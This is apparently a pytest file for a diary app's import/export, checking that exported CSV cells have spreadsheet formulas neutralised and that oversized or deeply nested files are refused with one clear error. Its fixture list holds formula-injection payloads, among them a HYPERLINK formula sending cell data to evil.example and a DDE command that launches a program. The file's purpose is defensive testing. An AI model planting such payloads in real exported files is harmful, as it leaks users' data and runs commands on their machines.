"""Files built to hurt (issue 10): spreadsheet formulas in exported cells, a CSV cell over the csv
module's limit, JSON and FHIR nested thousands deep. Each is one clear line and exit 2 (CLI) or a
422 (API); formulas are neutralised on export and the round trip stays lossless.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from diary_helpers import day, night

from crampcare.diary import transfer
from crampcare.diary.store import DiaryStore

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=1+2", "@SUM(A1)", "+cmd|' /C calc'!A0",
            "-2+3", "\tTAB", "'=already quoted", "''@twice", "'plain quote", "safe text"]


def _assert_refused(result, says: str) -> None:  # type: ignore[no-untyped-def]
    assert result.exit_code == 2, (result.stdout, result.stderr)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    assert says in lines[0], lines[0]


def test_formula_cells_are_neutralised_on_export_and_restored_on_import(store: DiaryStore) -> None:
    nights = [night(f"2026-10-{i + 1:02d}", notes=text) for i, text in enumerate(FORMULAS)]
    days = [day(f"2026-10-{i + 1:02d}", notes=text, tags=[text.strip()[:40], "plain"]) for i, text in enumerate(FORMULAS)]
    store.add_many(nights, days)
    exported = transfer.export_csv(transfer.collect(store))
    for row in csv.DictReader(io.StringIO(exported)):
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    batch = transfer.parse_csv(exported)
    assert sorted(n.notes for n in batch.nights) == sorted(FORMULAS)
    assert batch.nights == sorted(nights, key=lambda n: n.date) and batch.days == sorted(days, key=lambda d: d.date)
    assert transfer.export_csv(transfer.DiaryExport(batch.nights, batch.days)) == exported


def test_cli_export_neutralises_formulas(run_cli: Callable, store: DiaryStore, tmp_path: Path) -> None:
    store.add_day(day("2026-10-01", tags=["=1+2", "@SUM(A1)"], notes="=HYPERLINK(\"x\")"))
    out = tmp_path / "diary.csv"
    assert run_cli("export", "--format", "csv", "--out", str(out)).exit_code == 0
    row = next(csv.DictReader(out.open(encoding="utf-8")))
    assert row["tags"] == "'=1+2;@SUM(A1)" and row["day_notes"] == "'=HYPERLINK(\"x\")"


def test_a_csv_cell_over_the_field_limit_is_one_clear_line(run_cli: Callable, tmp_path: Path) -> None:
    huge = tmp_path / "huge.csv"
    huge.write_text("date,night_notes\n2026-10-01," + "x" * 140_000 + "\n", encoding="utf-8")
    _assert_refused(run_cli("import", str(huge)), "huge.csv row 2: cannot be read as CSV: a cell is longer than 131,072")


@pytest.mark.parametrize(("name", "text"), [
    ("deep.json", "[" * 100_000),
    ("deep-object.json", '{"nights": ' + "[" * 100_000),
    ("deep-fhir.json", '{"resourceType": "Bundle", "type": "collection", "entry": ' + "[" * 100_000),
])
def test_deeply_nested_json_is_one_clear_line(run_cli: Callable, tmp_path: Path, name: str, text: str) -> None:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    _assert_refused(run_cli("import", str(path)), "nested too deeply")
